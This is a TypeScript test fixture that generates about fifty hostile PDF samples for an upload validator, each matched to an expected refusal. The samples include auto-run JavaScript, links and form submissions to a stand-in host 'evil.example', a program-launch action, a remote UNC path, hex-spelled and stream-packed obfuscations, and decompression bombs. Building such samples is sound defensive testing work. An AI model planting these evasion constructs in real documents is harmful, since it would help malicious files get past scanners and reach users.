import { deflateSync } from "node:zlib";
import { UPLOAD_REFUSALS } from "#domain/uploads/upload-rules.ts";
import { deflate, makePages, makePdf, objectStream, pageWith, pdfStream, predictedCatalog } from "./make-pdf.ts";
import type { HostileFile } from "./hostile-files.ts";

const { pdf_active, pdf_attachment, pdf_encrypted, pdf_form, pdf_bomb, pdf_unusual, pdf_long, damaged } =
  UPLOAD_REFUSALS;
const URI = "<< /S /URI /URI (https://evil.example) >>";
const SCRIPT = "<< /S /JavaScript /JS (app.alert\\(1\\)) >>";

/** Every way to hide more than a page in a PDF that we know of, small and made by code. */
export function hostilePdfs(): HostileFile[] {
  const file = (name: string, bytes: Buffer, words: string): HostileFile => ({ name: `${name}.pdf`, bytes, words });
  const good = makePdf();
  const hex = (bytes: Buffer) => Buffer.from(`${deflateSync(bytes).toString("hex")}>`);
  const zeros = packedZeros(40);
  const update = "6 0 obj\n<< /S /JavaScript /JS (1) >>\nendobj\ntrailer\n<< >>\nstartxref\n9\n%%EOF\n";
  const sealedScript = objectStream([SCRIPT]);
  return [
    file("script-on-opening", makePdf({ catalog: `/OpenAction ${SCRIPT}` }), pdf_active),
    file("opening-by-reference", makePdf({ catalog: "/OpenAction 5 0 R", more: ["<< /S /Named >>"] }), pdf_active),
    file("opening-with-a-comment", makePdf({ catalog: "/OpenAction %[\n5 0 R", more: ["<< >>"] }), pdf_active),
    file("script-on-the-page", makePdf({ page: pageWith(`/AA << /O ${SCRIPT} >>`) }), pdf_active),
    file("link-on-opening-the-page", makePdf({ page: pageWith(`/AA << /O ${URI} >>`) }), pdf_active),
    file("link-on-opening", makePdf({ catalog: `/OpenAction ${URI}` }), pdf_active),
    file("link-on-opening-spelled", makePdf({ catalog: `/Open#41ction ${URI}` }), pdf_active),
    file("link-on-closing", makePdf({ catalog: "/AA 5 0 R", more: [`<< /WC ${URI} >>`] }), pdf_active),
    file("link-on-closing-with-a-comment", makePdf({ catalog: `/#41A %x\n%y\n << /WC ${URI} >>` }), pdf_active),
    file("packed-link-on-opening", makePdf({ more: [objectStream([`<< /AA << /O ${URI} >> >>`])] }), pdf_active),
    file("hidden-by-a-predictor", predictedCatalog(`/AA << /WC ${SCRIPT} >> /OpenAction ${URI}`), pdf_active),
    file("eleven-pages", makePages(11), pdf_long),
    file("script-by-name", makePdf({ catalog: "/Names << /JavaScript 5 0 R >>", more: ["<< >>"] }), pdf_active),
    file("spelled-with-numbers", makePdf({ more: ["<< /S /J#61vaScr#69pt /JS (1) >>"] }), pdf_active),
    file("all-spelled-with-numbers", makePdf({ more: [`<< /#53 ${spell("JavaScript")} >>`] }), pdf_active),
    file("script-in-a-rendition", makePdf({ more: ["<< /S /Rendition /JS (1) >>"] }), pdf_active),
    file("packed-script", makePdf({ more: [sealedScript] }), pdf_active),
    file("packed-and-spelled", makePdf({ more: [objectStream(["<< /S /Java#53cript >>"])] }), pdf_active),
    file("packed-with-a-false-length", makePdf({ more: [sealedScript.replace(/Length \d+/, "Length 0")] }), pdf_active),
    file("packed-without-a-type", makePdf({ more: [sealedScript.replace("/Type /ObjStm", "")] }), pdf_active),
    file("packed-as-a-picture", makePdf({ more: [sealedScript.replace("/N ", "/Subtype /Image /N ")] }), pdf_active),
    file("packed-named-by-numbers", makePdf({ more: [sealedScript.replace("ObjStm", "Obj#53tm")] }), pdf_active),
    file("packed-in-hexadecimal", makePdf({ more: [packedBy("[/ASCIIHexDecode /FlateDecode]", hex)] }), pdf_unusual),
    file("packed-with-two-filters", makePdf({ more: [packedBy("/FlateDecode /Filter null", deflate)] }), pdf_active),
    file("packed-by-reference", makePdf({ more: [packedBy("9 0 R", deflate)] }), pdf_unusual),
    file("packed-in-letters", makePdf({ more: [packedBy("/LZWDecode", (bytes) => bytes)] }), pdf_active),
    file(
      "packed-and-cut",
      makePdf({ more: [packedBy("/FlateDecode", (b) => deflate(b).subarray(0, 30))] }),
      pdf_unusual,
    ),
    file("appended-script", Buffer.concat([good, Buffer.from(update)]), pdf_active),
    file("starts-a-program", makePdf({ more: ["<< /S /Launch /F (calc.exe) >>"] }), pdf_active),
    file("sends-a-form", makePdf({ more: ["<< /S /SubmitForm /F (http://evil.example) >>"] }), pdf_active),
    file("fetches-data", makePdf({ more: ["<< /S /ImportData /F (x) >>"] }), pdf_active),
    file("opens-another", makePdf({ more: ["<< /S /GoToR /F (\\\\evil.example\\x) >>"] }), pdf_active),
    file("plays-a-film", makePdf({ page: pageWith("/Annots [<< /Subtype /RichMedia >>]") }), pdf_active),
    file("attachment", makePdf({ catalog: "/Names << /EmbeddedFiles << >> >>" }), pdf_attachment),
    file("packed-attachment", makePdf({ more: [objectStream(["<< /Type /Filespec /EF << >> >>"])] }), pdf_attachment),
    file(
      "attached-to-the-page",
      makePdf({ page: pageWith("/Annots [<< /Subtype /FileAttachment >>]") }),
      pdf_attachment,
    ),
    file("file-as-a-stream", makePdf({ more: [pdfStream("/Type /EmbeddedFile", "MZ")] }), pdf_attachment),
    file("locked", makePdf({ trailer: "/Encrypt << /Filter /Standard /V 1 >>" }), pdf_encrypted),
    file("form", makePdf({ catalog: "/AcroForm << /XFA [(template) 5 0 R] >>", more: ["<< >>"] }), pdf_form),
    file("bomb", makePdf({ more: [pdfStream("/Filter /FlateDecode", zeros)] }), pdf_bomb),
    file("bomb-of-one-picture", makePdf({ more: [picture(packedZeros(360))] }), pdf_bomb),
    file("bomb-of-pictures", makePdf({ more: Array.from({ length: 11 }, () => picture(zeros)) }), pdf_bomb),
    file(
      "packed-twice",
      makePdf({ more: [pdfStream("/Filter [/FlateDecode /FlateDecode]", deflateSync(zeros))] }),
      pdf_unusual,
    ),
    file(
      "archive-as-well",
      Buffer.concat([good, Buffer.from("PK\u0005\u0006".padEnd(22, "\0")), Buffer.from("\n%%EOF startxref")]),
      pdf_unusual,
    ),
    file(
      "page-as-well",
      Buffer.from(good.toString("latin1").replace("\n", "\n<script>alert(1)</script>\n"), "latin1"),
      pdf_unusual,
    ),
    file("cut-in-half", good.subarray(0, good.length / 2), damaged),
    file("head-alone", Buffer.from("%PDF-1.7\n"), damaged),
    file("without-pages", Buffer.from("%PDF-1.7\n1 0 obj\n<< >>\nendobj\nstartxref\n9\n%%EOF\n"), damaged),
    file("no-such-version", Buffer.from(good.toString("latin1").replace("PDF-1.7", "PDF-9.z"), "latin1"), damaged),
  ];
}

const packedZeros = (megabytes: number) => deflateSync(Buffer.alloc(megabytes * 1_024 * 1_024), { level: 9 });

function packedBy(filter: string, pack: (bytes: Buffer) => Buffer): string {
  return objectStream([SCRIPT], `/Filter ${filter}`, pack);
}

function picture(data: Buffer): string {
  return pdfStream("/Subtype /Image /Width 5000 /Height 8000 /Filter /FlateDecode", data);
}

function spell(name: string): string {
  return `/${[...name].map((letter) => `#${letter.charCodeAt(0).toString(16)}`).join("")}`;
}
